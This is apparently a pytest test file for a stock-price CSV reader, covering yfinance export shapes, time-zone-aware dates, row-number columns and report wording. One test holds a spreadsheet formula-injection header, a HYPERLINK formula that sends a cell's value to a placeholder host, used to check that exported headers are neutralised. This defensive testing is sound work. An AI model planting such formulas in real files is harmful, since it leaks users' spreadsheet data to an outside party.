"""Awkward export shapes and report wording (issue 13 item 10, issue 20 item 5).

The files are written the way users make them: ``yf.download(...)`` (faked frames in
yfinance's exact layout) followed by ``reset_index().to_csv()``, ``yf.Ticker.history`` with
tz-aware dates, a spreadsheet header holding a formula.
"""

from __future__ import annotations

import io

import pandas as pd
import pytest
from stock_fakes import combine, history

from core.data import DataError, read_series_csv, read_series_csv_with_report, to_csv_bytes
from core.data.csv.fixes import free_names, is_row_index, local_midnights, safe_header
from core.data.upload import CleanOptions, clean


def _csv(frame: pd.DataFrame, **kwargs) -> bytes:
    buf = io.StringIO()
    frame.to_csv(buf, **kwargs)
    return buf.getvalue().encode()


@pytest.fixture(scope="module")
def prices() -> pd.DataFrame:
    return combine({"MSFT": history("MSFT", days=300)})  # yf.download's (Price, Ticker) frame


def test_reset_index_yfinance_export_uses_the_real_dates(prices):
    raw = _csv(prices.reset_index())  # "Price,Date,Close,..." / "Ticker,,MSFT,..." / "0,2023-..."
    assert raw.startswith(b"Price,Date,Close") and b"\n0,20" in raw
    df, report = read_series_csv_with_report(raw)
    assert list(df.columns) == ["Close", "High", "Low", "Open", "Volume"]
    assert isinstance(df.index, pd.DatetimeIndex) and df.index.name == "Date"
    assert df.index[0] == prices.index[0] and len(df) == len(prices)
    assert report.date_column == "Date" and report.dropped_count == 0
    assert any("index column" in n for n in report.notes)


def test_reset_index_without_the_index_skips_the_ticker_line(prices):
    raw = _csv(prices.reset_index(), index=False)  # "Date,Close,..." then ",MSFT,MSFT,..."
    df, report = read_series_csv_with_report(raw)
    assert report.dropped_count == 0 and len(df) == len(prices)
    assert any("ticker: MSFT" in n for n in report.notes)


def test_a_row_index_column_named_date_is_dropped_for_the_real_dates(prices):
    flat = prices.xs("MSFT", axis=1, level="Ticker").reset_index()
    raw = _csv(flat, index_label="Date")  # "Date,Date,Close,...": the index took the name
    df, report = read_series_csv_with_report(raw)
    assert "Date" not in df.columns and "Date (2)" not in df.columns
    assert report.date_column == "Date" and df.index[-1] == prices.index[-1]
    assert any("row numbers (0, 1, 2, ...) written by pandas" in n for n in report.notes)
    # a counter is kept as a column when no other column holds dates: there is nothing else
    rows = read_series_csv(b"step,v\n0,1.5\n1,2.5\n2,3.5\n3,4.5\n", integer_index_ok=True)
    assert list(rows.columns) == ["step", "v"]


def test_tz_aware_daily_dates_stay_calendar_days():
    h = history("MSFT", days=40)
    h.index = h.index.tz_localize("America/New_York")  # what yf.Ticker.history returns
    raw = _csv(h)
    assert b"2024-06-28 00:00:00-04:00" in raw
    df, report = read_series_csv_with_report(raw)
    assert (df.index == df.index.normalize()).all()
    assert df.index[-1] == pd.Timestamp("2024-06-28")
    assert report.start == "2024-05-06" and report.end == "2024-06-28" and "T" not in report.end
    assert report.frequency == "B"
    # intraday stamps with offsets are still converted to UTC
    df, report = read_series_csv_with_report(
        b"Time,V\n2024-01-02 09:30-05:00,1\n2024-01-02 10:30-05:00,2\n2024-01-02 11:30-05:00,3\n"
    )
    assert df.index[0] == pd.Timestamp("2024-01-02 14:30")
    assert any("converted to UTC" in n for n in report.notes)


def test_refusal_without_dates_says_what_to_do_in_words():
    with pytest.raises(DataError) as err:
        read_series_csv(b"Month,Sales\n1-01,266\n1-02,145.9\n1-03,183.1\n1-04,119.3\n")
    text = str(err.value)
    assert "integer_index_ok" not in text and "=True" not in text
    assert "number them 0, 1, 2, ... instead" in text


def test_row_numbered_report_says_no_date_column_once():
    _, report = read_series_csv_with_report(b"v\n1\n2\n3\n4\n", integer_index_ok=True)
    lines = report.summary_lines()
    assert sum("No date column" in line for line in lines) == 1


def test_missing_values_line_does_not_contradict_the_cleaning():
    raw = b"Date,V\n2024-01-01,1\n2024-01-02,\n2024-01-03,3\n2024-01-04,4\n"
    frame, report = read_series_csv_with_report(raw)
    steps = clean(frame, CleanOptions(fill="ffill")).steps
    assert steps == ["Forward-filled 1 missing value(s)."]
    lines = report.summary_lines()
    assert "Missing values in the file (V: 1)." in lines
    assert not any("choose a fill method" in line for line in lines)


def test_cleaned_csv_neutralises_formula_headers():
    frame = pd.DataFrame(
        {'=HYPERLINK("http://x.example/?leak="&A1,"click")': [1.0, 2.0], "@SUM(A1)": [3.0, 4.0]},
        index=pd.DatetimeIndex(["2024-01-01", "2024-01-02"], name="+cmd"),
    )
    raw = to_csv_bytes(frame)
    header = raw.split(b"\n")[0].decode()
    assert header.startswith("'+cmd,") and "\"'=HYPERLINK(" in header and ",'@SUM(A1)" in header
    assert not any(c.startswith(("=", "+", "-", "@")) for c in pd.read_csv(io.BytesIO(raw)).columns)
    assert next(iter(frame.columns)).startswith("=")  # the caller's frame is left as it was


def test_helpers():
    assert is_row_index(["0", "1", "2"]) and is_row_index(["1", "2", "3"])
    assert not is_row_index(["5", "6", "7"]) and not is_row_index(["0", "2", "3"])
    assert free_names(["Date", "Date (2)", "Close"], {0}) == ["Date (row numbers)", "Date", "Close"]
    assert free_names(["A", "A (2)", "A (3)"], {2}) == ["A", "A (2)", "A (3) (row numbers)"]
    assert safe_header("-1") == "'-1" and safe_header("Close") == "Close"
    raw = pd.Series(["2024-01-02 00:00:00+05:30", "2024-01-03 00:00:00+05:30"])
    utc = pd.to_datetime(raw, utc=True).dt.tz_convert(None)
    assert local_midnights(raw, utc).tolist() == [
        pd.Timestamp("2024-01-02"),
        pd.Timestamp("2024-01-03"),
    ]
    assert local_midnights(pd.Series(["2024-01-02 09:00+00:00"]), utc.iloc[:1]) is None
